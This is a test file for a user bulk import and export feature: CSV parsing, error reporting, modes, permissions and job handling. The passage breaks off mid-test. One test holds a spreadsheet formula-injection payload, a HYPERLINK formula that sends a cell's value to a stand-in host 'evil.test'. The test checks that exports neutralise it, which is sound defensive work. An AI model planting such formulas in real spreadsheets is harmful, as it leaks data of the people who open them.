// import.test.mjs: bulk import and export of users: `switchboard import`
// and `switchboard export` on the server's database, and POST/GET
// .../imports as a job. Each test works in an organization of its own.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { startServer, cli, sql, malformed } from '../lib/server.mjs';

let s;
let tmp;
let fileSeq = 0;
let orgSeq = 0;
before(async () => {
  s = await startServer();
  tmp = mkdtempSync(join(tmpdir(), 'sb-import-'));
});
after(async () => {
  await s.stop();
  rmSync(tmp, { recursive: true, force: true });
});

const dbArgs = () => (s.dbUrl ? ['--data', s.dataDir, '--db', s.dbUrl] : ['--data', s.dataDir]);

async function newOrg() {
  orgSeq += 1;
  const r = await s.req('POST', '/api/v1/orgs', { token: s.adminToken, body: { name: `Import ${orgSeq} ${Date.now()}`, parent_id: s.platformId } });
  assert.equal(r.status, 201, JSON.stringify(r.body));
  return r.body.id;
}

function file(text) {
  fileSeq += 1;
  const f = join(tmp, `in${fileSeq}.csv`);
  writeFileSync(f, text);
  return f;
}

// Runs `switchboard import --json`; returns {status, report, stderr}.
function runImport(org, csv, args = []) {
  const r = cli(['import', ...dbArgs(), '--org', org, '--json', ...args, file(csv)]);
  let report = null;
  try { report = JSON.parse(r.stdout); } catch { /* a file-level problem: stderr says */ }
  return { status: r.status, report, stderr: r.stderr, stdout: r.stdout };
}

async function users(org) {
  const r = await s.req('GET', `/api/v1/orgs/${org}/users?limit=200`, { token: s.adminToken });
  assert.equal(r.status, 200);
  return r.body.items;
}

const byEmail = (list, email) => list.find((u) => u.email === email);

// A signed-in user of org in a group with perms (a custom group), its
// password changed so it may act.
async function memberWith(org, perms) {
  const g = await s.req('POST', `/api/v1/orgs/${org}/groups`, { token: s.adminToken, body: { name: `P ${Date.now()} ${perms.join(' ')}`, permissions: perms } });
  assert.equal(g.status, 201, JSON.stringify(g.body));
  const email = `m${Date.now()}${orgSeq}@example.com`;
  const u = await s.req('POST', `/api/v1/orgs/${org}/users`, { token: s.adminToken, body: { first_name: 'M', last_name: 'Ember', email, password: 'Quiet-Harbor-28-Pier', groups: [g.body.id] } });
  assert.equal(u.status, 201, JSON.stringify(u.body));
  const l = await s.login(email, 'Quiet-Harbor-28-Pier');
  await s.req('POST', '/api/v1/me/password', { token: l.token, body: { current_password: 'Quiet-Harbor-28-Pier', new_password: 'Quiet-Harbor-28-Pier-2' } });
  return (await s.login(email, 'Quiet-Harbor-28-Pier-2')).token;
}

async function postImport(org, csv, { token = s.adminToken, query = '' } = {}) {
  return s.req('POST', `/api/v1/orgs/${org}/imports${query}`, { token, headers: { 'content-type': 'text/csv' }, raw: csv });
}

async function waitDone(location, token = s.adminToken) {
  const seen = [];
  for (let i = 0; i < 600; i++) {
    const r = await s.req('GET', location, { token });
    assert.equal(r.status, 200, JSON.stringify(r.body));
    seen.push(r.body);
    if (r.body.status === 'done' || r.body.status === 'failed') return { final: r.body, seen };
    await new Promise((res) => setTimeout(res, 50));
  }
  throw new Error(`import did not end: ${JSON.stringify(seen.at(-1))}`);
}

test('a Dutch spreadsheet: BOM, ";", quoted fields with separators, quotes and line breaks, CRLF', async () => {
  const org = await newOrg();
  const csv = '\uFEFFAanspreektitel;Voornaam *;Tussenvoegsel;Achternaam *;E-mail *;Telefoonnummer;Mobiel nummer;Functie\r\n'
    + 'Dhr.;Jan;van;Dijk;jan.dijk@import.test;+31 20 123 4567;06 12345678;"Hoofd; inkoop"\r\n'
    + ';"Piet ""PJ""";;"de Vries";piet.vries@import.test;;;\r\n';
  const r = runImport(org, csv);
  assert.equal(r.status, 0, r.stderr + r.stdout);
  assert.equal(r.report.created, 2);
  assert.equal(r.report.failed, 0);
  assert.equal(r.report.written, true);
  const list = await users(org);
  const jan = byEmail(list, 'jan.dijk@import.test');
  assert.equal(jan.salutation, 'Dhr.');
  assert.equal(jan.infix, 'van');
  assert.equal(jan.job_title, 'Hoofd; inkoop');
  assert.equal(jan.status, 'invited');
  const piet = byEmail(list, 'piet.vries@import.test');
  assert.equal(piet.first_name, 'Piet "PJ"');
  assert.equal(piet.last_name, 'de Vries');
  // a quoted line break is read as part of its cell, and a name refuses it
  // (one line of text), as the API does: the row is reported, naming it
  const broken = runImport(await newOrg(), 'Voornaam;Achternaam;E-mail\r\nKees;"de\r\nBoer";kees@import.test\r\nAnn;Smit;ann@import.test\r\n');
  assert.equal(broken.status, 1, broken.stderr + broken.stdout);
  assert.equal(broken.report.written, false);
  assert.deepEqual(broken.report.errors.map((e) => [e.line, e.field, e.code]), [[2, 'last_name', 'invalid_text']]);
  // the same file with ',' and LF, no BOM, English names
  const org2 = await newOrg();
  const r2 = runImport(org2, 'first_name,last_name,email,job_title\nAnn,Smit,ann.smit@import.test,"Sales, north"\n');
  assert.equal(r2.status, 0, r2.stderr);
  assert.equal(byEmail(await users(org2), 'ann.smit@import.test').job_title, 'Sales, north');
});

test('every bad row is reported with its line, field and the API\'s message; nothing is written', async () => {
  const org = await newOrg();
  // the API's message for the same bad email
  const api = await s.req('POST', `/api/v1/orgs/${org}/users`, { token: s.adminToken, body: malformed({ first_name: 'X', last_name: 'Y', email: 'not-an-email' }) });
  assert.equal(api.status, 422);
  const apiMsg = api.body.errors.find((e) => e.field === 'email').message;
  const csv = 'first_name,last_name,email,groups,invite\n'
    + 'Good,One,good.one@import.test,,\n'
    + '"Multi\nline",Two,not-an-email,,\n'        // starts on line 3
    + 'Good,Three,good.three@import.test,nosuchgroup,maybe\n'; // line 5
  const r = runImport(org, csv);
  assert.equal(r.status, 1);
  assert.equal(r.report.failed, 2);
  assert.equal(r.report.created, 1);
  assert.equal(r.report.written, false);
  const e = r.report.errors;
  assert.ok(e.some((x) => x.line === 3 && x.field === 'email' && x.message === apiMsg), JSON.stringify(e));
  assert.ok(e.some((x) => x.line === 5 && x.field === 'groups' && /nosuchgroup/.test(x.message)));
  assert.ok(e.some((x) => x.line === 5 && x.field === 'invite'));
  assert.equal((await users(org)).length, 0, 'all or nothing: nothing written');
  // the human report says the same
  const h = cli(['import', ...dbArgs(), '--org', org, file(csv)]);
  assert.equal(h.status, 1);
  assert.match(h.stdout, /line 3, email: /);
  assert.match(h.stdout, /Nothing was written/);
});

test('--skip-invalid writes the good rows; --dry-run writes nothing', async () => {
  const org = await newOrg();
  const csv = 'first_name,last_name,email\nA,One,a.one@import.test\nB,Two,bad-email\nC,Three,c.three@import.test\n';
  const dry = runImport(org, csv, ['--dry-run']);
  assert.equal(dry.report.created, 2);
  assert.equal(dry.report.failed, 1);
  assert.equal(dry.report.written, false);
  assert.equal((await users(org)).length, 0);
  const dryGood = runImport(org, 'first_name,last_name,email\nA,One,a.one@import.test\n', ['--dry-run']);
  assert.equal(dryGood.status, 0);
  assert.equal(dryGood.report.created, 1);
  assert.equal((await users(org)).length, 0, 'a clean dry run writes nothing either');
  const r = runImport(org, csv, ['--skip-invalid']);
  assert.equal(r.report.created, 2);
  assert.equal(r.report.failed, 1);
  assert.equal(r.report.errors[0].line, 3);
  assert.equal(r.report.written, true);
  assert.deepEqual((await users(org)).map((u) => u.email).sort(), ['a.one@import.test', 'c.three@import.test']);
});

test('modes: create refuses existing emails, update needs them, upsert counts unchanged rows', async () => {
  const org = await newOrg();
  const csv = 'first_name,last_name,email,job_title\nA,One,m.one@import.test,Dev\nB,Two,m.two@import.test,Ops\n';
  assert.equal(runImport(org, csv).status, 0);
  const again = runImport(org, csv);
  assert.equal(again.report.failed, 2);
  assert.ok(again.report.errors.every((e) => e.field === 'email' && e.message === 'A user with this email already exists.'));
  const upd = runImport(org, 'email,job_title\nm.one@import.test,Lead\nnobody@import.test,X\n', ['--mode', 'update', '--skip-invalid']);
  assert.equal(upd.report.updated, 1);
  assert.equal(upd.report.failed, 1);
  assert.equal(upd.report.errors[0].field, 'email');
  assert.match(upd.report.errors[0].message, /no user with this email/);
  assert.equal(byEmail(await users(org), 'm.one@import.test').job_title, 'Lead');
  const audit = async () => (await s.req('GET', `/api/v1/orgs/${org}/audit?limit=200`, { token: s.adminToken })).body.items.length;
  const up = 'first_name,last_name,email,job_title\nA,One,m.one@import.test,Lead\nB,Two,m.two@import.test,Ops\nC,Three,m.three@import.test,QA\n';
  const first = runImport(org, up, ['--mode', 'upsert']);
  assert.deepEqual([first.report.created, first.report.updated, first.report.unchanged], [1, 0, 2]);
  const before = await audit();
  const second = runImport(org, up, ['--mode', 'upsert']);
  assert.deepEqual([second.report.created, second.report.updated, second.report.unchanged], [0, 0, 3]);
  assert.equal(await audit(), before, 'an unchanged row records nothing');
  // an update applies PATCH rules: clearing a required field is the API's error
  const clear = runImport(org, 'email,last_name\nm.one@import.test,\n', ['--mode', 'update']);
  assert.equal(clear.report.failed, 1);
  assert.equal(clear.report.errors[0].field, 'last_name');
  const bad = cli(['import', ...dbArgs(), '--org', org, '--mode', 'merge', file(up)]);
  assert.equal(bad.status, 2);
});

test('groups by key or name, extensions (auto and given), invitation mail yes or no', async () => {
  const org = await newOrg();
  const csv = 'first_name;last_name;email;groups;extension;invite\n'
    + 'A;One;g.one@import.test;admin|call_details;auto;ja\n'
    + 'B;Two;g.two@import.test;End user, call_details;7055;nee\n'
    + 'C;Three;g.three@import.test;;7055;no\n';
  const r = runImport(org, csv, ['--skip-invalid']);
  assert.equal(r.report.created, 2, JSON.stringify(r.report));
  assert.equal(r.report.errors[0].line, 4);
  assert.equal(r.report.errors[0].field, 'extension');
  const list = await users(org);
  const one = byEmail(list, 'g.one@import.test');
  assert.deepEqual(one.groups.map((g) => g.builtin).sort(), ['admin', 'call_details']);
  assert.equal(one.extensions.length, 1);
  const two = byEmail(list, 'g.two@import.test');
  assert.deepEqual(two.groups.map((g) => g.builtin).sort(), ['call_details', 'end_user']);
  assert.deepEqual(two.extensions, ['7055']);
  assert.equal(two.status, 'invited');
  const mails = (to) => parseInt(sql(s, `SELECT COUNT(*) FROM outbox WHERE to_addr = '${to}'`).trim(), 10);
  assert.equal(mails('g.one@import.test'), 1, 'invite yes: an invitation is queued');
  assert.equal(mails('g.two@import.test'), 0, 'invite no: no mail');
  const unknown = runImport(org, 'email,first_name,last_name,wachtwoord,colour\nx@import.test,X,Y,a,b\n');
  assert.equal(unknown.status, 1);
  assert.match(unknown.stderr, /Unknown columns: wachtwoord, colour/);
  const noEmail = runImport(org, 'first_name,last_name\nX,Y\n');
  assert.match(noEmail.stderr, /needs an email column/);
});

test('export writes what import reads: export, import into a fresh installation, export again', async () => {
  const org = await newOrg();
  const csv = 'salutation,first_name,infix,last_name,email,login_name,phone,mobile,job_title,employer,language,groups,extension,invite\n'
    + 'Mw.,Eva,van der,Berg,eva@roundtrip.test,eva.berg,+31 20 555 0100,+31 6 12345678,"CFO, finance",Bakkerij Berg,en,admin|end_user,7010,no\n'
    + ',Bas,,Jansen,bas@roundtrip.test,,,,,,nl,call_details,,no\n';
  assert.equal(runImport(org, csv).status, 0);
  const out = join(tmp, 'export.csv');
  const ex = cli(['export', ...dbArgs(), '--org', org, '--format', 'csv', '--output', out]);
  assert.equal(ex.status, 0, ex.stderr);
  const exported = readFileSync(out, 'utf8');
  assert.match(exported, /^salutation,first_name,infix,last_name,email,login_name,phone,mobile,job_title,employer,language,groups,extension,invite\r\n/);
  const dir = mkdtempSync(join(tmpdir(), 'sb-import-fresh-'));
  try {
    const init = cli(['init', '--data', dir, '--admin-email', 'root@fresh.test', '--admin-password', 'Grand-Canyon-81-Rock']);
    assert.equal(init.status, 0, init.stderr);
    const fresh = init.stdout.match(/customer organization: .* \(([0-9a-f-]{36})\)/)[1];
    const imp = cli(['import', '--data', dir, '--org', fresh, out]);
    assert.equal(imp.status, 0, imp.stderr + imp.stdout);
    assert.match(imp.stdout, /2 rows: 2 created/);
    const again = cli(['export', '--data', dir, '--org', fresh]);
    assert.equal(again.status, 0, again.stderr);
    assert.equal(again.stdout, exported, 'the same users');
    const json = JSON.parse(cli(['export', '--data', dir, '--org', fresh, '--format', 'json']).stdout);
    const eva = json.find((u) => u.email === 'eva@roundtrip.test');
    assert.deepEqual(eva.groups.sort(), ['admin', 'end_user']);
    assert.equal(eva.job_title, 'CFO, finance');
    assert.equal(eva.extension, '7010');
    assert.equal(eva.employer, 'Bakkerij Berg', 'the employer comes along, made as a company there');
  } finally { rmSync(dir, { recursive: true, force: true }); }
});

test('without a terminal, progress is plain lines on stderr; the report stays on stdout', async () => {
  const org = await newOrg();
  let csv = 'email,first_name,last_name,invite\n';
  for (let i = 0; i < 1200; i++) csv += `p${i}@progress.test,P,${i},no\n`;
  const r = cli(['import', ...dbArgs(), '--org', org, file(csv)]);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stderr, /^import: 1200\/1200 rows \(100%\), \d+ rows\/s, 0s left$/m);
  assert.doesNotMatch(r.stderr, /\r|#/);
  assert.match(r.stdout, /^1200 rows: 1200 created, 0 updated, 0 unchanged, 0 failed \(mode create\)$/m);
});

test('API: the import runs as a job; GET reports progress and the final report', async () => {
  const org = await newOrg();
  let csv = 'first_name;last_name;email\n';
  for (let i = 0; i < 1500; i++) csv += `F${i};L${i};api${i}@import.test\n`;
  csv += 'Bad;Row;not-an-email\n'; // line 1502
  const r = await postImport(org, csv, { query: '?skip_invalid=true&mode=upsert' });
  assert.equal(r.status, 202, JSON.stringify(r.body));
  const loc = r.headers.get('location');
  assert.equal(loc, `/api/v1/orgs/${org}/imports/${r.body.id}`);
  assert.equal(r.body.status, 'queued');
  const { final, seen } = await waitDone(loc);
  for (let i = 1; i < seen.length; i++) assert.ok(seen[i].processed >= seen[i - 1].processed, 'progress only grows');
  assert.equal(final.status, 'done', JSON.stringify(final));
  assert.equal(final.total, 1501);
  assert.equal(final.processed, 1501);
  assert.equal(final.created, 1500);
  assert.equal(final.failed, 1);
  assert.equal(final.written, true);
  assert.equal(final.mode, 'upsert');
  assert.deepEqual(final.errors.map((e) => [e.line, e.field, e.code]), [[1502, 'email', 'invalid_email']]);
  const count = await s.req('GET', `/api/v1/orgs/${org}/users?q=L1499`, { token: s.adminToken });
  assert.equal(count.body.items.length, 1);
  // the same file again, upsert: every row unchanged
  const again = await waitDone((await postImport(org, csv, { query: '?skip_invalid=1&mode=upsert' })).headers.get('location'));
  assert.equal(again.final.unchanged, 1500);
  // all or nothing and dry run through the API
  const org2 = await newOrg();
  const aon = await waitDone((await postImport(org2, 'email,first_name,last_name\na@aon.test,A,B\nbad,C,D\n')).headers.get('location'));
  assert.equal(aon.final.status, 'done');
  assert.equal(aon.final.written, false);
  assert.equal(aon.final.created, 1);
  const dry = await waitDone((await postImport(org2, 'email,first_name,last_name\na@aon.test,A,B\n', { query: '?dry_run=true' })).headers.get('location'));
  assert.equal(dry.final.created, 1);
  assert.equal(dry.final.written, false);
  assert.equal((await users(org2)).length, 0);
});

test('API: bad files and options are refused at once', async () => {
  const org = await newOrg();
  const cols = await postImport(org, 'email,bogus\nx@y.test,1\n');
  assert.equal(cols.status, 422);
  assert.equal(cols.body.errors[0].field, 'columns');
  assert.match(cols.body.errors[0].message, /Unknown columns: bogus/);
  // a header line of 60 long unknown columns (a 2 MB line) is answered in
  // a few names, each cut short, not echoed back whole
  const wide = Array.from({ length: 60 }, (_, i) => `kolom${i}${'é'.repeat(20000)}`).join(',');
  const many = await postImport(org, `email,${wide}\nx@y.test\n`);
  assert.equal(many.status, 422);
  assert.match(many.body.errors[0].message, /^Unknown columns: kolom0é+\.\.\., kolom1é+\.\.\., .* and 50 more\. Known are /);
  assert.ok(JSON.stringify(many.body).length < 4000);
  const mode = await postImport(org, 'email\nx@y.test\n', { query: '?mode=merge' });
  assert.equal(mode.status, 422);
  assert.equal(mode.body.errors[0].field, 'mode');
  const json = await s.req('POST', `/api/v1/orgs/${org}/imports`, { token: s.adminToken, body: { email: 'x@y.test' }, malformed: true });
  assert.equal(json.status, 415);
});

test('API: needs users.write, and telephony.write for an extension column; another tenant gets 404', async () => {
  const org = await newOrg();
  const reader = await memberWith(org, ['users.read']);
  const r = await postImport(org, 'email,first_name,last_name\nr@perm.test,R,P\n', { token: reader });
  assert.equal(r.status, 403);
  const writer = await memberWith(org, ['users.read', 'users.write']);
  const ext = await postImport(org, 'email,first_name,last_name,extension\nr@perm.test,R,P,auto\n', { token: writer });
  assert.equal(ext.status, 403);
  assert.match(ext.body.detail, /telephony\.write/);
  const ok = await postImport(org, 'email,first_name,last_name\nr@perm.test,R,P\n', { token: writer });
  assert.equal(ok.status, 202);
  const { final } = await waitDone(ok.headers.get('location'), writer);
  assert.equal(final.created, 1);
  // an administrator of another organization
  const other = await newOrg();
  const admins = (await s.req('GET', `/api/v1/orgs/${other}/groups`, { token: s.adminToken })).body.items;
  const adminGroup = admins.find((g) => g.builtin === 'admin').id;
  const email = `adm${Date.now()}@other.test`;
  await s.req('POST', `/api/v1/orgs/${other}/users`, { token: s.adminToken, body: { first_name: 'O', last_name: 'Ther', email, password: 'Quiet-Harbor-28-Pier', groups: [adminGroup] } });
  const l = await s.login(email, 'Quiet-Harbor-28-Pier');
  await s.req('POST', '/api/v1/me/password', { token: l.token, body: { current_password: 'Quiet-Harbor-28-Pier', new_password: 'Quiet-Harbor-28-Pier-2' } });
  const tokenB = (await s.login(email, 'Quiet-Harbor-28-Pier-2')).token;
  assert.equal((await s.req('GET', ok.headers.get('location'), { token: tokenB })).status, 404);
  assert.equal((await s.req('GET', `/api/v1/orgs/${other}/imports/${ok.body.id}`, { token: tokenB })).status, 404);
  assert.equal((await postImport(org, 'email\nz@z.test\n', { token: tokenB })).status, 404);
});

test('a NUL byte in a cell is a row error naming its column, via the CLI and the API', async () => {
  // it used to cut the cell there silently: A\0B was stored as A
  const org = await newOrg();
  const rows = (p) => 'email,first_name,last_name,job_title\n'
    + `${p}.one@import.test,A\0B,One,\n`
    + `${p}.two@import.test,Two,Quoted,"x\0y"\n`
    + `${p}.three@import.test,Three,Fine,\n`;
  const csv = rows('nul');
  const r = runImport(org, csv, ['--skip-invalid']);
  assert.equal(r.status, 1, r.stderr + r.stdout);
  assert.equal(r.report.failed, 2);
  assert.equal(r.report.created, 1);
  assert.deepEqual(r.report.errors.map((e) => [e.line, e.field, e.code]),
    [[2, 'first_name', 'invalid_text'], [3, 'job_title', 'invalid_text']]);
  assert.match(r.report.errors[0].message, /first_name .*NUL/);
  assert.deepEqual((await users(org)).map((u) => u.email), ['nul.three@import.test']);
  // the email a row is matched by is checked too (update mode finds no user by a cut address)
  const upd = runImport(org, 'email,job_title\nnul.three@import.test\0x,Boss\n', ['--mode', 'update']);
  assert.deepEqual(upd.report.errors.map((e) => [e.line, e.field, e.code]), [[2, 'email', 'invalid_text']]);
  assert.equal(byEmail(await users(org), 'nul.three@import.test').job_title, null);
  // a NUL in a field past the header's columns is not an empty field
  const extra = runImport(org, 'email,first_name,last_name\nnul.four@import.test,F,L,\0\n');
  assert.deepEqual(extra.report.errors.map((e) => [e.line, e.field, e.code]), [[2, 'row', 'too_many_fields']]);
  // a NUL in the header line refuses the file
  const head = runImport(org, 'email,first\0_name\nx@import.test,X\n');
  assert.equal(head.status, 1);
  assert.match(head.stderr, /NUL/);
  const headApi = await postImport(org, 'email,first\0_name\nx@import.test,X\n');
  assert.equal(headApi.status, 422);
  assert.equal(headApi.body.errors[0].field, 'columns');
  assert.equal(headApi.body.errors[0].code, 'invalid_text');
  // the same rows through the API
  const org2 = await newOrg();
  const posted = await postImport(org2, rows('nulapi'), { query: '?skip_invalid=true' });
  assert.equal(posted.status, 202, JSON.stringify(posted.body));
  const { final } = await waitDone(posted.headers.get('location'));
  assert.equal(final.status, 'done', JSON.stringify(final));
  assert.deepEqual(final.errors.map((e) => [e.line, e.field, e.code]),
    [[2, 'first_name', 'invalid_text'], [3, 'job_title', 'invalid_text']]);
  assert.ok(final.errors.every((e) => typeof e.message === 'string' && e.message.length > 0));
  assert.deepEqual((await users(org2)).map((u) => u.email), ['nulapi.three@import.test']);
});

test('export guards cells a spreadsheet would run as formulas; import takes the guard off again', async () => {
  const org = await newOrg();
  const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
  const made = [
    { first_name: '@SUM(1+1)', last_name: evil, email: 'f.one@formula.test', mobile: '+31612345678', job_title: '-2+3' },
    { first_name: 'Piet', infix: "'t", last_name: 'Hart', email: 'f.two@formula.test', job_title: "'=quoted already" },
    { first_name: '+Plus', last_name: 'Minus-Sign', email: '-dash@formula.test', job_title: 'a=b' },
  ];
  for (const u of made) {
    const r = await s.req('POST', `/api/v1/orgs/${org}/users`, { token: s.adminToken, body: { ...u, invite: false } });
    assert.equal(r.status, 201, JSON.stringify(r.body));
  }
  const ex = cli(['export', ...dbArgs(), '--org', org]);
  assert.equal(ex.status, 0, ex.stderr);
  const lines = ex.stdout.split('\r\n');
  // no cell starts with = + - @ (quoted or not), a tab or a CR
  for (const l of lines.slice(1)) assert.doesNotMatch(l, /(^|,)"?[=+\-@\t\r]/, l);
  const one = lines.find((l) => l.includes('f.one@formula.test'));
  assert.ok(one.startsWith(`,'@SUM(1+1),,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",f.one@formula.test,,,'+31612345678,'-2+3,`), one);
  const two = lines.find((l) => l.includes('f.two@formula.test'));
  assert.ok(two.startsWith(",Piet,'t,Hart,f.two@formula.test,,,,''=quoted already,"), two);
  const three = lines.find((l) => l.includes('dash@formula.test'));
  assert.ok(three.startsWith(",'+Plus,,Minus-Sign,'-dash@formula.test,,,,a=b,"), three);
  // the JSON export is not for spreadsheets: the values as they are
  const json = JSON.parse(cli(['export', ...dbArgs(), '--org', org, '--format', 'json']).stdout);
  assert.equal(json.find((u) => u.email === 'f.one@formula.test').last_name, evil);

  // into a fresh installation and out again: the same bytes, the same values
  const out = file(ex.stdout);
  const dir = mkdtempSync(join(tmpdir(), 'sb-import-formula-'));
  try {
    const init = cli(['init', '--data', dir, '--admin-email', 'root@formula.test', '--admin-password', 'Grand-Canyon-81-Rock']);
    assert.equal(init.status, 0, init.stderr);
    const fresh = init.stdout.match(/customer organization: .* \(([0-9a-f-]{36})\)/)[1];
    const imp = cli(['import', '--data', dir, '--org', fresh, out]);
    assert.equal(imp.status, 0, imp.stderr + imp.stdout);
    const again = cli(['export', '--data', dir, '--org', fresh]);
    assert.equal(again.stdout, ex.stdout);
    const back = JSON.parse(cli(['export', '--data', dir, '--org', fresh, '--format', 'json']).stdout);
    for (const u of made) {
      const b = back.find((x) => x.email === u.email);
      for (const k of ['first_name', 'infix', 'last_name', 'mobile', 'job_title']) assert.equal(b[k], u[k], `${u.email} ${k}`);
    }
  } finally { rmSync(dir, { recursive: true, force: true }); }

  // a file written by hand: a guard before a formula or a number comes off, other quotes stay
  const org2 = await newOrg();
  const hand = runImport(org2, "email,first_name,last_name,mobile,job_title\nh.one@formula.test,' 'Jan,'t Hart,'+31 6 12345678,' =1\n");
  assert.equal(hand.status, 0, hand.stderr + hand.stdout);
  const h = byEmail(await users(org2), 'h.one@formula.test');
  assert.equal(h.first_name, "' 'Jan");
  assert.equal(h.last_name, "'t Hart");
  assert.equal(h.mobile, '+31612345678');
  assert.equal(h.job_title, '=1');
});

test('a job whose server stopped reporting is marked interrupted by another; a job running here is not', async () => {
  // a heartbeat and a sweep every 0.2 s, stale after 0.5 s
  const t = await startServer({ args: ['--import-heartbeat', '0.2', '--import-stale-after', '0.5', '--node-id', 'node-7.example:a'] });
  try {
    const now = Date.now();
    const put = (status, node, heartbeat) => {
      const id = randomUUID();
      sql(t, `INSERT INTO imports (id, org_id, mode, status, created_at, updated_at, node_id, heartbeat_at) VALUES ('${id}', '${t.orgId}', 'create', '${status}', ${heartbeat}, ${heartbeat}, '${node}', ${heartbeat})`);
      return `/api/v1/orgs/${t.orgId}/imports/${id}`;
    };
    const dead = put('running', 'node-that-died', now - 600000);
    const deadQueued = put('queued', 'node-that-died', now - 600000);
    const alive = put('running', 'node-still-beating', now + 3600000);
    const get = async (loc) => (await t.req('GET', loc, { token: t.adminToken })).body;
    const ended = async (loc) => {
      let r;
      for (let i = 0; i < 100 && ['queued', 'running'].includes((r = await get(loc)).status); i++) await new Promise((res) => setTimeout(res, 100));
      return r;
    };
    for (const loc of [dead, deadQueued]) {
      const r = await ended(loc);
      assert.equal(r.status, 'failed', JSON.stringify(r));
      assert.equal(r.reason, 'interrupted');
      assert.match(r.detail, /stopped reporting before it ended; nothing was written/);
      assert.ok(r.finished_at);
      assert.equal(r.written, false);
    }
    assert.equal((await get(alive)).status, 'running', 'a fresh heartbeat is left alone');

    // this node's own job outlives the staleness (on SQLite it cannot write a heartbeat
    // while its transaction holds the write lock) and ends done, not interrupted
    let csv = 'email,first_name,last_name,invite\n';
    for (let i = 0; i < 15000; i++) csv += `long${i}@stale.test,L,${i},no\n`;
    const started = Date.now();
    const posted = await t.req('POST', `/api/v1/orgs/${t.orgId}/imports`, { token: t.adminToken, headers: { 'content-type': 'text/csv' }, raw: csv });
    assert.equal(posted.status, 202);
    assert.equal(sql(t, `SELECT node_id FROM imports WHERE id = '${posted.body.id}'`).trim(), 'node-7.example:a');
    let end;
    for (let i = 0; i < 1200 && !['done', 'failed'].includes((end = await get(posted.headers.get('location'))).status); i++) {
      await new Promise((res) => setTimeout(res, 100));
    }
    assert.equal(end.status, 'done', JSON.stringify(end));
    assert.equal(end.created, 15000);
    // it must have outlived the staleness (0.5 s) and a sweep after it (0.2 s)
    assert.ok(Date.now() - started > 700, `the import took only ${Date.now() - started} ms: make it longer than the staleness`);
  } finally { await t.stop(); }
});

test('the API exports for a Dutch spreadsheet (;, Dutch headers and group names), and the file imports again', async () => {
  const org = await newOrg();
  const csv = 'Voornaam;Tussenvoegsel;Achternaam;E-mail;Functie;Werkgever;Rechtengroepen;Toestelnummer\n'
    + 'Eva;van der;Berg;eva@nl-export.test;Chef; Bakker;Beheer|Gespreksdetails;7011\n'
    + 'Bas;;Jansen;bas@nl-export.test;"=HYPERLINK(1)";;Eindgebruiker;\n';
  const imp = runImport(org, csv);
  assert.equal(imp.status, 0, imp.stderr + JSON.stringify(imp.report));
  const r = await s.req('GET', `/api/v1/orgs/${org}/exports/users?separator=semicolon&labels=nl`, { token: s.adminToken });
  assert.equal(r.status, 200, r.body);
  assert.match(r.headers.get('content-type'), /^text\/csv/);
  assert.match(r.headers.get('content-disposition'), /attachment; filename="users\.csv"/);
  const text = r.body; // (decoding as text drops the byte order mark)
  const bytes = new Uint8Array(await (await fetch(`${s.url}/api/v1/orgs/${org}/exports/users`, { headers: { authorization: `Bearer ${s.adminToken}` } })).arrayBuffer());
  assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf], 'a byte order mark, so a spreadsheet reads UTF-8');
  const lines = text.split('\r\n');
  assert.equal(lines[0], 'Aanspreektitel;Voornaam;Tussenvoegsel;Achternaam;E-mail;Loginnaam;Telefoonnummer;Mobiel nummer;Functie;Werkgever;Taal;Rechtengroepen;Toestelnummer;Uitnodigen');
  const eva = lines.find((l) => l.includes('eva@nl-export.test')).split(';');
  assert.deepEqual([eva[9], eva[11], eva[12]], ['Bakker', 'Beheer|Gespreksdetails', '7011']);
  assert.match(lines.find((l) => l.includes('bas@')), /;'=HYPERLINK\(1\);/);
  // in English by default: keys, commas
  const en = await s.req('GET', `/api/v1/orgs/${org}/exports/users`, { token: s.adminToken });
  assert.match(en.body, /^salutation,first_name,infix,last_name,email,login_name,phone,mobile,job_title,employer,language,groups,extension,invite\r\n/);
  assert.match(en.body, /admin\|call_details/);
  // the Dutch file reads back as the same users: nothing to change
  const again = runImport(org, text, ['--mode', 'update']);
  assert.equal(again.status, 0, again.stderr + JSON.stringify(again.report));
  assert.deepEqual([again.report.unchanged, again.report.failed], [2, 0]);
  // a bad choice is refused, naming it; a reader without users.read is not let in
  const bad = await s.req('GET', `/api/v1/orgs/${org}/exports/users?separator=tab`, { token: s.adminToken });
  assert.deepEqual([bad.status, bad.body.errors[0].field], [422, 'separator']);
  const token = await memberWith(org, ['contacts.read']);
  assert.equal((await s.req('GET', `/api/v1/orgs/${org}/exports/users`, { token })).status, 403);
});

test('an import keeps search exact: the index is brought up to date once, at the commit', async () => {
  const org = await newOrg();
  const stamp = Date.now();
  const q = async (text) => (await s.req('GET', `/api/v1/orgs/${org}/users?q=${encodeURIComponent(text)}`, { token: s.adminToken })).body.items.map((u) => u.email).sort();
  const csv = 'first_name,infix,last_name,email\n'
    + `Pieter,van den,Zoekveld${stamp},pieter@defer-${stamp}.test\n`
    + `Anna,,Vindbaar${stamp},anna@defer-${stamp}.test\n`;
  assert.equal(runImport(org, csv).status, 0);
  assert.deepEqual(await q(`pieter van den zoekveld${stamp}`), [`pieter@defer-${stamp}.test`]);
  assert.deepEqual(await q(`defer-${stamp}.test`), [`anna@defer-${stamp}.test`, `pieter@defer-${stamp}.test`]);
  // an update by import: the old name is gone from the index, the new one found
  const upd = runImport(org, `email,last_name\nanna@defer-${stamp}.test,Hernoemd${stamp}\n`, ['--mode', 'update']);
  assert.equal(upd.status, 0, upd.stderr);
  assert.deepEqual(await q(`vindbaar${stamp}`), []);
  assert.deepEqual(await q(`hernoemd${stamp}`), [`anna@defer-${stamp}.test`]);
  // an import that writes nothing (a bad row) leaves nothing behind
  const bad = runImport(org, `first_name,last_name,email\nX,Weg${stamp},x@defer-${stamp}.test\nY,Fout,not-an-email\n`);
  assert.equal(bad.status, 1);
  assert.deepEqual(await q(`weg${stamp}`), []);
  assert.equal(sql(s, 'SELECT count(*) FROM search_pending').trim(), '0');
  assert.equal(sql(s, 'SELECT count(*) FROM search_defer').trim(), '0');
  // and a user made through the API afterwards is found at once, as before
